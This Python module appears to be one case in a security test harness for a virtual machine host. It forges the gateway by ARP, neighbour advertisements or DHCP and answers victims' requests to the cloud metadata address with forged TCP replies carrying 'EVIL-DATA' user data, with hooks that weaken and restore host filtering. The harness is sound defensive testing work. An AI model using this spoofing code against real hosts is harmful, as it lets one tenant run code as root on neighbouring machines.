"""A guest takes the gateway's place and answers in the name of the metadata service.

Guests reach 169.254.169.254 by their gateway, whose hardware address anybody on the bridge can claim: by ARP, by a neighbour
advertisement, by a router advertisement, and by DHCP, whose option 121 ends in the same frames as the route that victim-6 has here.
Gained: a victim that runs user data of its neighbour's choice as root. In the way: what enters by a guest's tap for a metadata address
goes to the host whatever its Ethernet destination, and no guest sends with a metadata address as its source.
"""

import attack
import rules
import space
import wire
from attack import Outcome
from attacks.lib import claims
from field import Field
from host import Host


class Attack(attack.Attack):
    """The forger answers itself."""

    hosts = ("address", "redirect", "bridge", "auto")
    proofs = (("address", 4), ("address", 6))

    def prepare(self, host: Host) -> None:
        """One victim's way leads over the forger without any claim, as DHCP may have told it."""
        host.victims[-1].route(host.forger.ip4, host.forger.ip6)

    def attack(self, field: Field) -> None:
        """Claims the gateway, and answers whoever believes it."""
        card, seen = wire.Wire(), 0
        claim = claims.of_gateway(field)
        card.send(*claim)
        field.ready()
        evil = b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nEVIL-DATA"
        victims = {field.own(one) for one in field.victims}
        while field.goes_on():
            card.send(*claim)
            for segment in card.segments(0.03):
                if segment.source not in victims or segment.destination != field.metadata:
                    continue
                seen += 1
                answer = b"" if segment.flags & wire.SYN else evil if segment.data else None
                if answer is not None:
                    flags = wire.SYN | wire.ACK if segment.flags & wire.SYN else wire.ACK | wire.PSH
                    ports = segment.ports[::-1]
                    card.send(wire.packet(segment.by, field.me.link, (field.metadata, segment.source), wire.tcp(
                        field.metadata, segment.source, ports, flags, segment.acknowledged or 7000,
                        segment.sequence + (len(segment.data) or 1), answer)))
        field.report["seen"] = seen

    def gained(self, outcome: Outcome) -> str | None:
        """A victim's request, or a victim that believed the answer."""
        if wrong := outcome.victims.get("wrong"):
            return f"victims took {wrong} answers for the metadata service's"
        return f"the forger saw {outcome.forger['seen']} packets of victims' requests" if outcome.forger["seen"] else None

    def weaken(self, host: Host) -> None:
        """Bridges requests as other frames, and lets guests send as the metadata service."""
        rules.overlook()
        rules.let_speak()

    def restore(self, host: Host) -> None:
        """The victims' routes and beliefs."""
        for one in host.victims:
            space.call("ip", "-n", one.name, "-6", "route", "flush", "proto", "ra")
        host.heal()
